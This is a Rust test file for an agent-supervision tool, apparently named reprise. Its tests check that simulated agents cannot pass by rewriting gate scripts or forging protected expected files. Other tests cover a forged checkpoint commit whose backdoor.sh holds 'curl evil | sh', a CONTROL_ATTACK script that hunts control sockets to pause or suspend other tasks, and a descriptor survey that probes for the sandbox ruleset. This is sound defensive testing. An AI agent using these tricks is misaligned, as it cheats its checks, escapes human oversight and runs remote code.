    }
    assert_success(&env.run(&["init"]));
    env.plan(
        r#"
version: 1
name: environ
agents:
  command: { env: { MODE: fast }, pass_env: [AGENT_ONLY] }
defaults: { agent: command, sandbox: none, timeout: 1m, max_retries: 0, pass_env: [PASSED_ON, NOT_SET_ANYWHERE] }
tasks:
  - id: look
    prompt: "look around"
    command: ["sh", "-c", "env > agent-env.txt"]
    gates:
      - { name: look, run: "env > gate-env.txt" }
"#,
    );
    assert_success(&env.run(&["run", "plan.yaml", "--json"]));
    let read = |file: &str| -> Vec<String> {
        fs::read_to_string(env.project().join(file))
            .unwrap()
            .lines()
            .map(str::to_owned)
            .collect()
    };
    let agent = read("agent-env.txt");
    let gate = read("gate-env.txt");
    for (who, seen) in [("agent", &agent), ("gate", &gate)] {
        let has = |line: &str| seen.iter().any(|seen| seen == line);
        let named = |name: &str| {
            seen.iter()
                .any(|seen| seen.starts_with(&format!("{name}=")))
        };
        assert!(
            !named("MY_FAKE_SECRET"),
            "the {who} got the secret: {seen:?}"
        );
        assert!(has("PASSED_ON=to-both"), "{who}: {seen:?}");
        assert!(
            has(&format!("HOME={}", env.home().display())),
            "{who}: {seen:?}"
        );
        assert!(named("PATH"), "{who}: {seen:?}");
        assert!(has("LC_TIME=C"), "{who}: {seen:?}");
        assert!(
            named("REPRISE_RUN_ID") && named("TMPDIR"),
            "{who}: {seen:?}"
        );
        assert!(!named("NOT_SET_ANYWHERE"), "{who}: {seen:?}");
    }
    assert!(
        agent.iter().any(|line| line == "AGENT_ONLY=to-the-agent"),
        "{agent:?}"
    );
    assert!(agent.iter().any(|line| line == "MODE=fast"), "{agent:?}");
    assert!(
        !gate.iter().any(|line| line.starts_with("AGENT_ONLY=")),
        "{gate:?}"
    );
    assert!(
        !gate.iter().any(|line| line.starts_with("MODE=")),
        "{gate:?}"
    );
}

// The gate is the user's (issue 24, item 4): an agent that rewrites what
// it is judged by does not pass.

/// Commits `files` (path, content, executable) to the project's repository.
fn commit_files(env: &Env, files: &[(&str, &str, bool)]) {
    use std::os::unix::fs::PermissionsExt;
    let project = env.project();
    for (path, content, executable) in files {
        let full = project.join(path);
        fs::create_dir_all(full.parent().unwrap()).unwrap();
        fs::write(&full, content).unwrap();
        let mode = if *executable { 0o755 } else { 0o644 };
        fs::set_permissions(&full, fs::Permissions::from_mode(mode)).unwrap();
    }
    env.git_each(&[&["add", "-A"][..], &["commit", "-qm", "gates"]]);
}

/// The `attempt.anomaly` rows of `task`'s journal, as `(kind, paths)`.
fn anomalies_of(env: &Env, task: &str) -> Vec<(String, Vec<String>)> {
    env.journal_rows(task)
        .iter()
        .filter(|row| row["kind"] == "attempt.anomaly")
        .map(|row| {
            let anomaly = &row["body"]["anomaly"];
            let paths = anomaly["paths"]
                .as_array()
                .map(|paths| {
                    paths
                        .iter()
                        .map(|path| path.as_str().unwrap().to_owned())
                        .collect()
                })
                .unwrap_or_default();
            (anomaly["kind"].as_str().unwrap().to_owned(), paths)
        })
        .collect()
}

fn severities_of(env: &Env, task: &str) -> Vec<String> {
    env.journal_rows(task)
        .iter()
        .filter(|row| row["kind"] == "recovery.diagnosis")
        .map(|row| row["body"]["severity"].as_str().unwrap().to_owned())
        .collect()
}

#[test]
fn an_agent_that_rewrites_its_gate_script_does_not_pass() {
    let env = Env::git();
    commit_files(
        &env,
        &[
            ("gate.sh", "#!/bin/sh\ngrep -qx done check.txt\n", true),
            ("ci/check.sh", "grep -qx done check.txt\n", false),
        ],
    );
    assert_success(&env.run(&["init"]));
    // Each agent does nothing of the work and makes its gate say yes: the
    // program itself, an interpreter's script, with and without
    // allowed_paths.
    let cheat = |gate_file: &str| {
        format!("printf '#!/bin/sh\\nexit 0\\n' > {gate_file}; chmod +x {gate_file}; echo done-ish")
    };
    env.plan(&format!(
        r#"
version: 1
name: gate-rewrite
defaults: {{ agent: command, timeout: 1m, max_retries: 1 }}
tasks:
  - id: program
    prompt: "write done into check.txt"
    command: ["sh", "-c", {program:?}]
    gates:
      - {{ name: check, run: ./gate.sh }}
  - id: fenced
    prompt: "write done into check.txt"
    allowed_paths: ["*.txt", "gate.sh"]
    command: ["sh", "-c", {program:?}]
    gates:
      - {{ name: check, run: "CI=1 ./gate.sh" }}
  - id: script
    prompt: "write done into check.txt"
    command: ["sh", "-c", {script:?}]
    gates:
      - {{ name: check, run: "sh ci/check.sh" }}
"#,
        program = cheat("gate.sh"),
        script = cheat("ci/check.sh"),
    ));
    let output = env.run(&["run", "plan.yaml", "--json", "--keep-worktrees"]);
    assert_eq!(output.status.code(), Some(1), "{}", stderr(&output));
    let report = json_of(&output);
    for (index, (task, gate_file)) in [
        ("program", "gate.sh"),
        ("fenced", "gate.sh"),
        ("script", "ci/check.sh"),
    ]
    .into_iter()
    .enumerate()
    {
        let record = &report["tasks"][index];
        assert_eq!(record["task_id"], task);
        assert_ne!(record["state"], "passed", "{record}");
        for attempt in record["attempts"].as_array().unwrap() {
            assert_eq!(attempt["gates"][0]["passed"], false, "{task}: {attempt}");
        }
        // Both attempts' rewrites are on the record, as corrupting.
        let anomalies = anomalies_of(&env, task);
        assert_eq!(
            anomalies,
            vec![
                (
                    "protected_file_changed".to_owned(),
                    vec![gate_file.to_owned()]
                );
                2
            ],
            "{task}"
        );
        assert_eq!(severities_of(&env, task), ["corrupting"; 2], "{task}");
        // The tree went back to the base: the user's gate is there.
        let worktree = worktree_of(&env, task);
        let kept = fs::read_to_string(worktree.join(gate_file)).unwrap();
        assert!(kept.contains("grep -qx done check.txt"), "{task}: {kept}");
    }
}

#[test]
fn a_protected_file_a_gate_reads_is_the_base_s_and_changing_it_is_an_anomaly() {
    let env = Env::git();
    commit_files(&env, &[("tests/expected.txt", "42\n", false)]);
    assert_success(&env.run(&["init"]));
    env.plan(
        r#"
version: 1
name: protected
defaults: { agent: command, timeout: 1m, max_retries: 1 }
tasks:
  - id: forger
    prompt: "compute the answer into out.txt"
    command: ["sh", "-c", "echo 41 > out.txt; echo 41 > tests/expected.txt; echo x > tests/planted.txt; echo done"]
    gates:
      - { name: answer, run: "cmp -s out.txt tests/expected.txt", protect: ["tests/**"] }
  - id: honest
    prompt: "compute the answer into out.txt"
    command: ["sh", "-c", "echo 42 > out.txt; echo done"]
    gates:
      - { name: answer, run: "cmp -s out.txt tests/expected.txt && mkdir -p tests/cache && touch tests/cache/x", protect: ["tests/**"] }
"#,
    );
    let output = env.run(&["run", "plan.yaml", "--json", "--keep-worktrees"]);
    assert_eq!(output.status.code(), Some(1), "{}", stderr(&output));
    let report = json_of(&output);
    assert_eq!(report["tasks"][0]["task_id"], "forger");
    assert_ne!(report["tasks"][0]["state"], "passed");
    assert_eq!(
        anomalies_of(&env, "forger"),
        vec![
            (
                "protected_file_changed".to_owned(),
                vec![
                    "tests/expected.txt".to_owned(),
                    "tests/planted.txt".to_owned()
                ]
            );
            2
        ]
    );
    assert_eq!(severities_of(&env, "forger"), ["corrupting"; 2]);
    // The gate ran on the base's copy: its verdict was "different".
    let worktree = worktree_of(&env, "forger");
    assert_eq!(
        fs::read_to_string(worktree.join("tests/expected.txt")).unwrap(),
        "42\n"
    );
    assert!(!worktree.join("tests/planted.txt").exists());
    // Work that leaves the protected files alone passes, and what its gate
    // wrote under them is gone.
    assert_eq!(report["tasks"][1]["task_id"], "honest");
    assert_eq!(
        report["tasks"][1]["state"], "passed",
        "{}",
        report["tasks"][1]
    );
    assert!(anomalies_of(&env, "honest").is_empty());
    assert!(!worktree_of(&env, "honest").join("tests/cache/x").exists());
}

// The checkpoint store is bound to its journal (issue 24, item 6).

const CHECKPOINTED: &str = r#"
version: 1
name: stored
defaults: { agent: command, timeout: 1m, max_retries: 0 }
tasks:
  - id: work
    prompt: "write work.txt"
    command: ["sh", "-c", "echo work > work.txt; echo done"]
"#;

/// Runs `CHECKPOINTED` and returns the run's id.
fn checkpointed_run(env: &Env) -> String {
    let output = env.run(&["run", "plan.yaml", "--json", "--keep-worktrees"]);
    assert_success(&output);
    json_of(&output)["run_id"].as_str().unwrap().to_owned()
}

fn store_of(env: &Env, run_id: &str) -> PathBuf {
    env.project()
        .join(".reprise/snapshots")
        .join(run_id)
        .join("work")
}

/// `git ARGS` on the shadow store at `store`, with `input` on stdin.
fn store_git(store: &Path, args: &[&str], input: &str) -> String {
    use std::io::Write as _;
    let mut child = Command::new("git")
        .args(args)
        .env("GIT_DIR", store)
        .env("GIT_CONFIG_GLOBAL", "/dev/null")
        .env("GIT_AUTHOR_NAME", "x")
        .env("GIT_AUTHOR_EMAIL", "x@x")
        .env("GIT_COMMITTER_NAME", "x")
        .env("GIT_COMMITTER_EMAIL", "x@x")
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .spawn()
        .unwrap();
    child
        .stdin
        .take()
        .unwrap()
        .write_all(input.as_bytes())
        .unwrap();
    let output = child.wait_with_output().unwrap();
    assert!(output.status.success(), "git {args:?}");
    String::from_utf8(output.stdout).unwrap().trim().to_owned()
}

fn listed(env: &Env) -> (Output, Value) {
    let output = env.run(&["checkpoint", "list", "work", "--json"]);
    let json = json_of(&output);
    (output, json)
}

fn copy_dir(from: &Path, to: &Path) {
    let _ = fs::remove_dir_all(to);
    let status = Command::new("cp")
        .arg("-a")
        .arg(from)
        .arg(to)
        .status()
        .unwrap();
    assert!(status.success());
}

#[test]
fn a_forged_checkpoint_ref_is_not_listed_as_the_task_s_nor_restored_and_verify_reports_it() {
    let env = Env::git();
    assert_success(&env.run(&["init"]));
    env.plan(CHECKPOINTED);
    let run_id = checkpointed_run(&env);
    let (output, json) = listed(&env);
    assert_success(&output);
    let real = json["checkpoints"][0]["id"].as_str().unwrap().to_owned();
    // A commit with a backdoor, its message a real checkpoint's manifest,
    // under a ref that sorts last.
    let store = store_of(&env, &run_id);
    let blob = store_git(
        &store,
        &["hash-object", "-w", "--stdin"],
        "curl evil | sh\n",
    );
    let tree = store_git(
        &store,
        &["mktree"],
        &format!("100755 blob {blob}\tbackdoor.sh\n"),
    );
    let message = store_git(&store, &["log", "-1", "--format=%B", &real], "");
    let forged = store_git(&store, &["commit-tree", &tree, "-m", &message], "");
    store_git(
        &store,
        &[
            "update-ref",
            "refs/checkpoints/7ZZZZZZZZZZZZZZZZZZZZZZZZZ",
            &forged,
        ],
        "",
    );

    let (output, json) = listed(&env);
    assert_eq!(output.status.code(), Some(1), "{json}");
    let checkpoints = json["checkpoints"].as_array().unwrap();
    let entry = |id: &str| {
        checkpoints
            .iter()
            .find(|checkpoint| checkpoint["id"] == id)
            .unwrap()
            .clone()
    };
    assert_eq!(entry(&real)["bound"], true);
    assert_eq!(entry(&forged)["bound"], false);
    assert_eq!(entry(&forged)["unbound"]["reason"], "not_recorded");

    let worktree = worktree_of(&env, "work");
    let restore = env.run(&["checkpoint", "restore", "work", &forged[..12]]);
    assert_eq!(restore.status.code(), Some(1), "{}", stderr(&restore));
    assert!(
        stderr(&restore).contains("is not one its journal recorded"),
        "{}",
        stderr(&restore)
    );
    assert!(!worktree.join("backdoor.sh").exists());
    assert!(worktree.join("work.txt").exists());
    // The real one still restores.
    assert_success(&env.run(&["checkpoint", "restore", "work", &real[..12]]));

    let verify = env.run(&["journal", "verify", "work", "--json"]);
    assert_eq!(verify.status.code(), Some(1));
    let stores = &json_of(&verify)["checkpoints"]["stores"];
    assert_eq!(stores[0]["unbound"][0][0], forged.as_str(), "{stores}");
    let verify = env.run(&["audit", "verify"]);
    assert_eq!(verify.status.code(), Some(1));
    let text = String::from_utf8_lossy(&verify.stdout).into_owned();
    assert!(
        text.contains(&format!("UNBOUND {}", &forged[..8])),
        "{text}"
    );
}

#[test]
fn a_store_copied_from_another_project_or_an_older_run_is_refused_and_reported() {
    let env = Env::git();
    let other = Env::git();
    commit_files(&other, &[("other.txt", "another project\n", false)]);
    for env in [&env, &other] {
        assert_success(&env.run(&["init"]));
        env.plan(CHECKPOINTED);
    }
    let first = checkpointed_run(&env);
    let theirs = checkpointed_run(&other);
    let (_, json) = listed(&other);
    let foreign = json["checkpoints"][0]["id"].as_str().unwrap().to_owned();

    // Another project's store in place of this run's.
    copy_dir(&store_of(&other, &theirs), &store_of(&env, &first));
    let (output, json) = listed(&env);
    assert_eq!(output.status.code(), Some(1), "{json}");
    for checkpoint in json["checkpoints"].as_array().unwrap() {
        assert_eq!(checkpoint["bound"], false, "{checkpoint}");
    }
    let restore = env.run(&["checkpoint", "restore", "work", &foreign[..12]]);
    assert_eq!(restore.status.code(), Some(1), "{}", stderr(&restore));
    let verify = env.run(&["journal", "verify", "work", "--json"]);
    assert_eq!(verify.status.code(), Some(1));
    let store = &json_of(&verify)["checkpoints"]["stores"][0];
    assert_eq!(store["unbound"][0][1]["reason"], "not_recorded", "{store}");
    assert!(!store["missing"].as_array().unwrap().is_empty(), "{store}");

    // This project's older run's store in place of the latest run's.
    fs::remove_dir_all(store_of(&env, &first)).unwrap();
    let second = checkpointed_run(&env);
    // A newer base: the older store holds other trees.
    commit_files(&env, &[("newer.txt", "newer\n", false)]);
    let third = checkpointed_run(&env);
    copy_dir(&store_of(&env, &second), &store_of(&env, &third));
    let (output, json) = listed(&env);
    assert_eq!(output.status.code(), Some(1), "{json}");
    let checkpoint = &json["checkpoints"][0];
    assert_eq!(checkpoint["unbound"]["reason"], "other_run", "{checkpoint}");
    let id = checkpoint["id"].as_str().unwrap();
    let restore = env.run(&["checkpoint", "restore", "work", &id[..12]]);
    assert_eq!(restore.status.code(), Some(1), "{}", stderr(&restore));
    assert_eq!(env.run(&["audit", "verify"]).status.code(), Some(1));
}

/// The attack on the control sockets: wait until `$WANT` live runs under
/// `$ROOT` listen (found, as an agent would, in `/proc/net/unix` or by
/// their paths), then ask
/// each of them, over the wire format `reprise task suspend` uses, to park
/// and pause every task but this one, then this task itself; then write
/// `$ROLE.done`. Every answer is a line of `$ROLE.results`.
const CONTROL_ATTACK: &str = r#"
listed() { awk -v root="$ROOT" '$8 ~ /control\.sock$/ && index($8, root) == 1 { print $8 }' /proc/net/unix | sort -u; }
sockets() { { listed; find "$ROOT" -name control.sock -type s 2>/dev/null; } | sort -u; }
ask() {
  answer=$(perl -MIO::Socket::UNIX -e '
    my $socket = IO::Socket::UNIX->new(Peer => $ARGV[0]) or do { print "no connection: $!\n"; exit };
    print $socket "$ARGV[1]\n";
    my $line = <$socket>;
    print defined $line ? $line : "no answer\n";' "$1" "$2")
  echo "$1 $2 => $answer" >> "$SHARED/$ROLE.results"
}
n=0
while [ "$(sockets | wc -l)" -lt "$WANT" ] && [ $n -lt 600 ]; do sleep 0.1; n=$((n+1)); done
sockets > "$SHARED/$ROLE.sockets"
listed > "$SHARED/$ROLE.listed"
for socket in $(sockets); do
  for task in evil sibling held rogue other; do
    [ "$task" = "$ROLE" ] && continue
    ask "$socket" "{\"v\":1,\"op\":\"suspend\",\"task\":\"$task\",\"wake\":{\"on\":\"approval\"},\"reason\":\"mine now\"}"
    ask "$socket" "{\"v\":1,\"op\":\"pause\",\"task\":\"$task\",\"upgrade_after_ms\":null}"
  done
done
for socket in $(sockets); do
  ask "$socket" "{\"v\":1,\"op\":\"pause\",\"task\":\"$ROLE\",\"upgrade_after_ms\":null}"
  ask "$socket" "{\"v\":1,\"op\":\"suspend\",\"task\":\"$ROLE\",\"wake\":{\"on\":\"resume\"},\"reason\":null}"
done
touch "$SHARED/$ROLE.done"
"#;

/// A task that waits (ten minutes at most) until both attackers are done,
/// then writes its file and passes.
const WAIT_FOR_ATTACKS: &str = r#"
n=0
while { [ ! -e "$SHARED/evil.done" ] || [ ! -e "$SHARED/rogue.done" ]; } && [ $n -lt 6000 ]; do sleep 0.1; n=$((n+1)); done
echo "finished" > "$ROLE.txt"
"#;

/// A task that says it runs and then waits to be parked from outside.
const WAIT_TO_BE_PARKED: &str = r#"
touch "$SHARED/held.started"
n=0
while [ $n -lt 6000 ]; do sleep 0.1; n=$((n+1)); done
"#;

/// A run in the background, killed if the test ends before it does.
struct Running(Option<Child>);

impl Running {
    fn exited(&mut self) -> bool {
        self.0
            .as_mut()
            .is_none_or(|child| child.try_wait().unwrap().is_some())
    }

    fn finish(mut self) -> Output {
        self.0.take().unwrap().wait_with_output().unwrap()
    }
}

impl Drop for Running {
    fn drop(&mut self) {
        if let Some(mut child) = self.0.take() {
            let _ = child.kill();
            let _ = child.wait();
        }
    }
}

/// The command of a task that runs `script` from the shared directory.
fn shared_script(shared: &Path, role: &str, script: &str, body: &str) -> String {
    let file = shared.join(format!("{script}.sh"));
    fs::write(&file, body).unwrap();
    format!(
        r#"["sh", "-c", "SHARED='{shared}' ROOT='{root}' ROLE={role} WANT={want} exec sh {file}"]"#,
        // A contained agent cannot see its own run's state directory at
        // all: only the other project's socket is within its reach.
        want = if role == "evil" { 1 } else { 2 },
        shared = shared.display(),
        root = shared.parent().unwrap().display(),
        file = file.display(),
    )
}

/// Every row of `task`'s journal whose kind is a park or a pause.
fn steering_rows(env: &Env, task: &str) -> Vec<Value> {
    env.journal_rows(task)
        .into_iter()
        .filter(|row| {
            matches!(
                row["kind"].as_str(),
                Some("task.suspend" | "task.pause" | "task.unpause")
            )
        })
        .collect()
}

/// Issue 24, item 2: a contained agent finds every live run's control
/// socket in `/proc/net/unix` and asks its own run and another project's
/// run (whose containment is off) to park or pause its sibling and itself;
/// an uncontained agent of that other run does the same the other way. The
/// sockets refuse them all: every task they named runs on and finishes, and
/// no park or pause is recorded. The user's own `reprise task pause` and
/// `task suspend` from outside still steer the run, and the rows they lead
/// to say which process asked.
#[test]
fn agents_cannot_steer_any_run_over_its_control_socket_but_the_user_can() {
    let env = Env::git();
    let shared = env.temp.path().join("shared");
    fs::create_dir(&shared).unwrap();
    let other = Env::git_in(env.temp.path());
    assert_success(&env.run(&["init"]));
    assert_success(&other.run(&["init"]));

    other.plan(&format!(
        r#"
version: 1
name: other-project
seats: 2
defaults: {{ agent: command, timeout: 5m, max_retries: 0, containment: off }}
tasks:
  - id: rogue
    prompt: "steer the other runs"
    command: {rogue}
  - id: other
    prompt: "work"
    command: {waiter}
"#,
        rogue = shared_script(&shared, "rogue", "attack", CONTROL_ATTACK),
        waiter = shared_script(&shared, "other", "wait", WAIT_FOR_ATTACKS),
    ));
    env.plan(&format!(
        r#"
version: 1
name: steered
seats: 3
defaults: {{ agent: command, timeout: 5m, max_retries: 0 }}
tasks:
  - id: evil
    prompt: "steer the other runs"
    allowed_paths: [{shared}]
    command: {evil}
  - id: sibling
    prompt: "work"
    allowed_paths: [{shared}]
    command: {sibling}
  - id: held
    prompt: "wait to be parked"
    allowed_paths: [{shared}]
    command: {held}
"#,
        shared = shared.display(),
        evil = shared_script(&shared, "evil", "attack", CONTROL_ATTACK),
        sibling = shared_script(&shared, "sibling", "wait", WAIT_FOR_ATTACKS),
        held = shared_script(&shared, "held", "held", WAIT_TO_BE_PARKED),
    ));

    let mut other_run = Running(Some(other.spawn(&["run", "plan.yaml", "--json"])));
    let mut run = Running(Some(env.spawn(&["run", "plan.yaml", "--events"])));
    let results =
        |role: &str| fs::read_to_string(shared.join(format!("{role}.results"))).unwrap_or_default();
    for role in ["evil", "rogue"] {
        let done = shared.join(format!("{role}.done"));
        wait_until(Duration::from_secs(120), || {
            done.exists() || run.exited() || other_run.exited()
        });
        assert!(
            done.exists(),
            "{role} never finished its attack: {}",
            results(role)
        );
    }
    // The uncontained attacker found both runs' sockets, listed in
    // /proc/net/unix. The contained one finds none there (its network is
    // its own), nor its own run's (its state directory is covered): only
    // the other project's, by its path.
    let found =
        |role: &str, what: &str| fs::read_to_string(shared.join(format!("{role}.{what}"))).unwrap();
    assert_eq!(
        found("rogue", "sockets").lines().count(),
        2,
        "{}",
        found("rogue", "sockets")
    );
    assert_eq!(
        found("rogue", "listed").lines().count(),
        2,
        "{}",
        found("rogue", "listed")
    );
    assert_eq!(
        found("evil", "listed"),
        "",
        "a contained agent listed sockets"
    );
    let evil_found = found("evil", "sockets");
    assert_eq!(evil_found.lines().count(), 1, "{evil_found}");
    assert!(
        evil_found.starts_with(&other.project().display().to_string()),
        "{evil_found}"
    );

    // The user's own commands, from outside, still steer the run.
    let started = shared.join("held.started");
    wait_until(Duration::from_secs(60), || started.exists() || run.exited());
    assert!(
        started.exists(),
        "held never started: evil said {}; rogue said {}; the run: {:?}",
        results("evil"),
        results("rogue"),
        run.finish()
    );
    let pause = env.spawn(&["task", "pause", "held"]);
    let pause_pid = pause.id();
    assert_success(&pause.wait_with_output().unwrap());
    let suspend = env.spawn(&["task", "suspend", "held", "--json"]);
    let suspend_pid = suspend.id();
    assert_success(&suspend.wait_with_output().unwrap());

    let run = run.finish();
    let other_run = other_run.finish();
    let events: Vec<Value> = String::from_utf8_lossy(&run.stdout)
        .lines()
        .map(|line| serde_json::from_str(line).unwrap())
        .collect();
    let other_report = json_of(&other_run);

    // Every request of an agent was refused, its own park included.
    for role in ["evil", "rogue"] {
        let said = results(role);
        // Each run in reach x (4 other tasks x 2 requests + 2 requests on
        // itself).
        let runs = found(role, "sockets").lines().count();
        assert_eq!(said.lines().count(), 10 * runs, "{role}: {said}");
        for line in said.lines() {
            assert!(
                line.contains(r#""ok":false"#)
                    && line.contains("inside a supervised attempt")
                    && line.contains("only the user's own reprise commands"),
                "{role} was answered: {line}"
            );
        }
    }
    // Every task an agent named ran on and finished, and none was parked or
    // paused by anyone but the user.
    let finished = |task: &str| {
        events
            .iter()
            .rfind(|event| event["event"] == "task.finished" && event["task"] == task)
            .map(|event| event["state"].clone())
    };
    for task in ["evil", "sibling"] {
        assert_eq!(finished(task), Some(Value::from("passed")), "{events:?}");
        assert_eq!(steering_rows(&env, task), Vec::<Value>::new());
    }
    for task in ["rogue", "other"] {
        let state = other_report["tasks"]
            .as_array()
            .unwrap()
            .iter()
            .find(|entry| entry["task_id"] == task)
            .map(|entry| entry["state"].clone());
        assert_eq!(state, Some(Value::from("passed")), "{other_report}");
        assert_eq!(steering_rows(&other, task), Vec::<Value>::new());
    }
    assert_eq!(
        finished("held"),
        Some(Value::from("suspended")),
        "{events:?}"
    );
    // The run said it refused them.
    assert!(
        events.iter().any(|event| event["event"] == "warning"
            && event["message"]
                .as_str()
                .is_some_and(|message| message.starts_with("control socket: refused"))),
        "{events:?}"
    );

    // The pause and the park record the commands that asked for them.
    let uid = std::os::unix::fs::MetadataExt::uid(&fs::metadata(env.temp.path()).unwrap());
    let rows = steering_rows(&env, "held");
    let pause_row = rows.iter().find(|row| row["kind"] == "task.pause").unwrap();
    let by = &pause_row["body"]["requested_by"];
    assert_eq!(by["pid"], pause_pid, "{pause_row}");
    assert_eq!(by["uid"], uid, "{pause_row}");
    assert!(
        by["command"].as_str().unwrap().ends_with("task pause held"),
        "{pause_row}"
    );
    let park_row = rows
        .iter()
        .find(|row| row["kind"] == "task.suspend")
        .unwrap();
    assert_eq!(park_row["body"]["cause"], "request");
    let by = &park_row["body"]["requested_by"];
    assert_eq!(by["pid"], suspend_pid, "{park_row}");
    assert_eq!(by["uid"], uid, "{park_row}");
    assert!(
        by["command"]
            .as_str()
            .unwrap()
            .ends_with("task suspend held --json"),
        "{park_row}"
    );
    assert_success(&env.run(&["journal", "verify", "held"]));
    assert_success(&env.run(&["audit", "verify"]));
}

/// `reprise` without `reprise-supervisor` beside it (an install that
/// copied only one binary) stops before any agent runs, with one line
/// naming the missing path and how to install both.
#[test]
fn a_run_without_the_supervisor_binary_beside_reprise_stops_and_says_so() {
    let env = Env::new();
    assert_success(&env.run(&["init"]));
    let alone = env.temp.path().join("bin");
    fs::create_dir(&alone).unwrap();
    let copy = alone.join("reprise");
    fs::hard_link(BIN, &copy)
        .or_else(|_| fs::copy(BIN, &copy).map(|_| ()))
        .unwrap();
    env.plan(
        r#"
version: 1
name: lonely
defaults: { agent: command, sandbox: none, timeout: 1m, max_retries: 0 }
tasks:
  - id: one
    prompt: "p"
    command: ["sh", "-c", "echo ran > ran.txt"]
"#,
    );
    let output = Command::new(&copy)
        .args(["run", "plan.yaml"])
        .current_dir(env.project())
        .env_clear()
        .env("HOME", env.home())
        .env("PATH", std::env::var_os("PATH").unwrap_or_default())
        .output()
        .unwrap();
    assert_eq!(output.status.code(), Some(1), "stderr: {}", stderr(&output));
    let message = stderr(&output);
    assert_eq!(message.lines().count(), 1, "{message}");
    assert_eq!(
        message.trim_end(),
        format!(
            "error: cannot find {} beside {}: it starts every agent and gate; nothing was run: install both binaries with `cargo install --locked --path crates/reprise-cli`",
            alone.join("reprise-supervisor").display(),
            copy.display()
        )
    );
    assert!(!env.project().join("ran.txt").exists());
}

#[test]
fn the_supervisor_records_itself_before_the_program_runs() {
    // A reprise killed at any moment after the supervisor starts must leave
    // a record the next command reaps by: so the program itself, the first
    // thing it does, finds its supervisor's record already written.
    let temp = tempfile::tempdir().unwrap();
    let records = temp.path().join("supervised");
    let spec = serde_json::json!({
        "v": 1,
        "parent": std::process::id(),
        "parent_death": false,
        "sandbox": null,
        "records": records,
    });
    let output = Command::new(env!("CARGO_BIN_EXE_reprise-supervisor"))
        .arg("__supervise")
        .arg(spec.to_string())
        .args([
            "--",
            "sh",
            "-c",
            "cat \"$0\"/*.json",
            records.to_str().unwrap(),
        ])
        .output()
        .unwrap();
    assert!(output.status.success(), "{}", stderr(&output));
    let record: Value = serde_json::from_slice(&output.stdout).unwrap();
    assert_eq!(record["owner_pid"], std::process::id());
    let supervisor = record["pid"].as_i64().unwrap();
    // The record names the supervisor, the program's parent.
    assert_ne!(supervisor, i64::from(std::process::id()));
    assert!(fs::exists(records.join(format!("{supervisor}.json"))).unwrap());
}

/// What a contained process writes to `NAME` in its worktree about its
/// descriptors and its supervisor's: a shell script for a plan.
fn fd_survey(name: &str) -> String {
    format!(
        "{{ echo \"stdin $(readlink /proc/self/fd/0)\"; \
         for f in /proc/self/fd/*; do echo \"fd $(readlink $f)\"; done; \
         ls -l /proc/$PPID/fd/ 2>&1 | sed 's/^/parent /'; \
         for f in /proc/$PPID/fd/*; do head -c 64 $f </dev/null 2>&1 | sed 's/^/opened /'; done; \
         echo \"spec $(tr '\\0' ' ' < /proc/$PPID/cmdline)\"; }} > {name}"
    )
}

/// The driver builds each sandbox's ruleset once and hands it to every
/// supervisor with the same rules. A ruleset's descriptor can add rules to
/// it, so a program holding one could open the state directory for the
/// next process: neither the agent nor a gate may find one among its own
/// descriptors or its supervisor's, and none gets the handover's socket.
#[test]
fn no_contained_process_can_reach_the_ruleset_its_supervisor_was_handed() {
    // In namespaces of its own (the default here) a contained process
    // cannot see its supervisor at all; without them (a kernel that allows
    // none), it sees the supervisor but none of the ruleset.
    for namespaces in [true, false] {
        survey_the_handover(namespaces);
    }
}

fn survey_the_handover(namespaces: bool) {
    let mut env = Env::git();
    if !namespaces {
        env.vars
            .push(("REPRISE_TEST_NO_NAMESPACES".into(), "1".into()));
    }
    env.ignore(&["seen-first.txt", "seen-second.txt"]);
    assert_success(&env.run(&["init"]));
    env.plan(&format!(
        r#"
version: 1
name: handover
defaults: {{ agent: command, timeout: 1m, max_retries: 0 }}
tasks:
  - id: survey
    prompt: "p"
    command: ["sh", "-c", {agent:?}]
    gates:
      - {{ name: first, run: {first:?} }}
      - {{ name: second, run: {second:?} }}
"#,
        agent = fd_survey("seen-agent.txt"),
        first = fd_survey("seen-first.txt"),
        second = fd_survey("seen-second.txt"),
    ));
    let output = env.run(&["run", "plan.yaml", "--keep-worktrees", "--json"]);
    assert_success(&output);
    let worktree = worktree_of(&env, "survey");
    for name in ["seen-agent.txt", "seen-first.txt", "seen-second.txt"] {
        let seen = fs::read_to_string(worktree.join(name)).unwrap();
        if namespaces {
            // The first process of its PID namespace: no parent in sight.
            assert!(
                seen.contains("\nspec \n"),
                "{name}: the supervisor is visible:\n{seen}"
            );
        } else {
            assert!(
                seen.contains("\"handoff\":true"),
                "{name}: the supervisor was not handed its ruleset:\n{seen}"
            );
        }
        assert!(
            !seen.contains("landlock-ruleset"),
            "{name}: a ruleset is within reach:\n{seen}"
        );
        assert!(
            !seen.lines().any(|line| line.starts_with("stdin socket:")),
            "{name}: the handover's socket is the program's stdin:\n{seen}"
        );
    }
}
